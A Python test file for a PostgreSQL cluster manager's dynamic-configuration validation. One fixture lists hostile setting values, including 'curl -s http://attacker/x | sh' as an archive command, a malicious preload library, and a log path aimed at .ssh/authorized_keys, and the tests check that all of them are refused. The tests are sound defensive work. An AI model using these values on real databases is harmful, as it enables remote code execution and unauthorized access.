"""Dynamic configuration: validation and merging (pure), without a cluster."""
from __future__ import annotations

import json

from governor import config, dynamic
from governor.dcs import keys
from tests.test_config import minimal, write


def test_valid_settings_pass_and_are_laid_over_the_file_configuration(tmp_path):
    base = config.load(write(tmp_path / "governor.yml", minimal(tmp_path)))
    data = {"ttl": 20, "loop_wait": 2, "retry_timeout": 4, "maximum_lag_on_failover": "2MB",
            "postgresql": {"parameters": {"work_mem": "16MB", "auto_explain.log_min_duration": 100}}}
    assert dynamic.validate(data, dynamic.timing(base)) == []
    merged = dynamic.apply(base, data)
    assert (merged.etcd.ttl, merged.loop_wait, merged.retry_timeout) == (20, 2.0, 4.0)
    assert merged.postgresql.maximum_lag_on_failover == 2 * 1024 * 1024
    assert merged.postgresql.parameters["work_mem"] == "16MB"
    assert merged.postgresql.name == base.postgresql.name


def test_each_bad_value_is_named_with_what_was_expected():
    problems = dynamic.validate({"ttl": 2, "loop_wait": "soon", "maximum_lag_on_failover": "lots", "colour": 1,
                                 "postgresql": {"parameters": {"port": 5433, "work_mem": [1]}, "data_dir": "/x"}})
    text = "\n".join(problems)
    for expected in ("config: ttl: expected an integer from 5 to 3600",
                     "config: loop_wait: expected a number of seconds greater than 0",
                     "config: maximum_lag_on_failover: expected a size", "config: colour: not a dynamic setting",
                     "config: postgresql.parameters.port: set by", "postgresql.parameters.work_mem: expected a string",
                     "config: postgresql.data_dir: not a dynamic setting"):
        assert expected in text
    assert len(problems) == 7


def test_the_timing_rule_is_checked_against_the_file_values_not_set_dynamically():
    assert dynamic.validate({"ttl": 10}, base=(30, 10, 10))   # 10 + 2*10 > 10
    assert dynamic.validate({"ttl": 10, "loop_wait": 2, "retry_timeout": 4}, base=(30, 10, 10)) == []
    assert dynamic.validate({"loop_wait": 5}, base=(30, 10, 10)) == []


def test_patches_merge_and_null_removes():
    current = {"loop_wait": 5, "postgresql": {"parameters": {"work_mem": "8MB", "jit": "off"}}}
    change = dynamic.combine(dynamic.nested("postgresql.parameters.work_mem", None),
                             dynamic.nested("postgresql.parameters.auto_explain.log_min_duration", 50))
    new = dynamic.patch(current, change)
    assert new == {"loop_wait": 5, "postgresql": {"parameters": {"jit": "off",
                                                                "auto_explain.log_min_duration": 50}}}
    assert current["postgresql"]["parameters"]["work_mem"] == "8MB", "the input is not modified"
    assert dynamic.patch(new, {"postgresql": None, "loop_wait": None}) == {}
    assert dynamic.diff(current, new) == [
        ("postgresql.parameters.auto_explain.log_min_duration", None, 50),
        ("postgresql.parameters.work_mem", "8MB", None)]


RUNS_A_PROGRAM = {
    "archive_command": "curl -s http://attacker/x | sh", "restore_command": "sh -c id", "archive_library": "x",
    "archive_cleanup_command": "id", "recovery_end_command": "id", "ssl_passphrase_command": "id",
    "shared_preload_libraries": "/tmp/evil.so", "session_preload_libraries": "evil",
    "local_preload_libraries": "evil", "dynamic_library_path": "/tmp", "jit_provider": "evil",
    "log_directory": "/var/lib/postgresql/.ssh", "log_filename": "authorized_keys", "external_pid_file": "/tmp/x",
    "plperl.on_init": "system('id')", "pltcl.start_proc": "evil",
}


def test_settings_that_run_a_program_are_never_dynamic():
    """PATCH /config and edit-config validate with this: each one refused, named, and where to set it."""
    for name, value in RUNS_A_PROGRAM.items():
        problems = dynamic.validate({"postgresql": {"parameters": {name: value}}})
        assert len(problems) == 1 and problems[0].startswith(f"config: postgresql.parameters.{name}: "), problems
        assert "only each member's files may set it" in problems[0]
    upper = dynamic.validate({"postgresql": {"parameters": {"Archive_Command": "id"}}})
    assert upper and "only each member's files" in upper[0]
    remote = dynamic.validate({"standby_cluster": {"host": "site-a", "restore_command": "cp /a/%f %p"}})
    assert remote == ["config: standby_cluster.restore_command: runs a program: only each member's files may set "
                      "it (standby_cluster.restore_command), never etcd or the API"]
    assert dynamic.validate({"postgresql": {"parameters": {"archive_command": None}}}) == [], "removing one is fine"


def test_found_in_etcd_they_are_left_out_and_the_rest_applies():
    raw = {"loop_wait": 3, "postgresql": {"parameters": {**RUNS_A_PROGRAM, "work_mem": "8MB"}},
           "standby_cluster": {"host": "site-a", "restore_command": "id"}}
    entry = keys.Entry("config", json.dumps(raw), 7)
    cluster = keys.build_cluster([entry], 7)
    assert cluster.config == {"loop_wait": 3, "postgresql": {"parameters": {"work_mem": "8MB"}},
                              "standby_cluster": {"host": "site-a"}}
    assert len(cluster.ignored_settings) == len(RUNS_A_PROGRAM) + 1
    assert "standby_cluster.restore_command" in cluster.ignored_settings
    assert any("postgresql.parameters.archive_command" in p and "ignored" in p for p in cluster.problems)
    assert dynamic.validate(cluster.config) == []
